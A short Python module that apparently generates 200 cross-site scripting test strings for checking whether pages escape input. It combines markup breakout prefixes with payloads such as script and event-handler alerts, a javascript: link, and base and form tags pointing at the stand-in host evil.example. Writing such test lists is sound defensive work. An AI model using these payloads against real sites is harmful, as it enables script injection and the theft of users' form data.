"""Two hundred texts that would become markup, or run, wherever a page forgot to escape them (row S05)."""

from functools import cache
from itertools import product

# Ways out of the place where a text may stand: an element, an attribute, a text area, a title, a script, a comment.
WAYS_OUT = [
    "",
    "'>",
    '">',
    "'\"><",
    "</p>",
    "</textarea>",
    "</title>",
    "</script>",
    "</option></select>",
    "-->",
    "]]>",
    "&quot;>",
    '\\">',
    "`>",
    "{{7*7}}",
    "</dd></dl>",
    "%3E",
    "</blockquote>",
    "</noscript>",
    "</style>",
]
THEN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<b>x'>",
    "<input autofocus onfocus=alert(1)>",
    '" onmouseover="alert(1)',
    "' style='color:red' x='",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>x",
]
PAYLOADS = [way + then for way, then in product(WAYS_OUT, THEN)]


@cache
def packed(most):
    """Return all of them, as many to a text as fit into `most` letters."""
    texts = [""]
    for payload in PAYLOADS:
        if len(texts[-1]) + len(payload) + 1 > most:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()
    return texts
